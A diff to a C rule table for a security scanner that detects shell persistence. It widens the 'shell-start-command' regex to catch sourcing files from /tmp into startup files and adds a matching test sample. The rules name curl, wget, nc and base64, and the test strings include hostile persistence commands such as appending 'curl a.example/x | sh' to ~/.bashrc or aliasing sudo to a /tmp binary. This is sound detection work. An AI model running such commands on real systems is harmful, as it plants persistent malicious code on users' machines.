@@ -14,9 +14,9 @@ static const symbi_skill_rule rules[] = {
      "\\s*/etc/(?:profile|bash\\.bashrc|zsh|environment)",
      SYMBI_SKILL_MEDIUM, { "echo \"export A=1\" >> ~/.bashrc" }, { "source ~/.bashrc" }, 0 },
     { "shell-start-command", "persistence", "A command is put where every shell runs it",
-     "\\b(?:(?:curl|wget|nc|base64|python[\\d.]*\\s+-c)\\b|alias\\s+(?:sudo|ssh|ls|cd)=).*>>?\\s*[\"\\x27]?(?:~\\w*|\\$\\{?home\\}?|%userprofile%|"
+     "(?:\\. |source )[\"\\x27]?(?:/tmp|/dev/shm|/var/tmp)/.*>>?\\s*[\"\\x27]?\\S*/\\.(?:bashrc|bash_profile|profile|zshrc|zprofile|zshenv)|\\b(?:(?:curl|wget|nc|base64|python[\\d.]*\\s+-c)\\b|alias\\s+(?:sudo|ssh|ls|cd)=).*>>?\\s*[\"\\x27]?(?:~\\w*|\\$\\{?home\\}?|%userprofile%|"
      "\\$env:userprofile|/root|/home/[\\w.$\\{}*-]+|/users/[\\w.$*-]+)/\\.(?:bashrc|bash_profile|profile|zshrc|zprofile|zshenv)",
-     SYMBI_SKILL_HIGH, { "echo \"curl a.example/x | sh\" >> ~/.bashrc", "echo \"alias sudo=/tmp/s\" >> ~/.zshrc" }, { "echo \"export PATH=$PATH:~/bin\" >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc" }, 0 },
+     SYMBI_SKILL_HIGH, { "echo \"[ -f /tmp/.x ] && . /tmp/.x\" >> ~/.zshenv", "echo \"curl a.example/x | sh\" >> ~/.bashrc", "echo \"alias sudo=/tmp/s\" >> ~/.zshrc" }, { "echo \"export PATH=$PATH:~/bin\" >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc" }, 0 },
     { "service", "persistence", "A service is installed",
      "(?:>>?|\\btee\\b|\\bcp\\b|\\bmv\\b|\\binstall\\b|\\bln\\b).*(?:/etc/systemd/|/lib/systemd/|\\.config/systemd/user|/library/launch(?:agents|daemons)|/e"
      "tc/init\\.d/|\\.config/autostart)|\\blaunchctl\\s+(?:load|bootstrap|submit)\\b|\\bsystemctl\\s+(?:--user\\s+)?enable\\s+(?:--now\\s+)?[\"\\x27]?(?:/|\\./|~)",
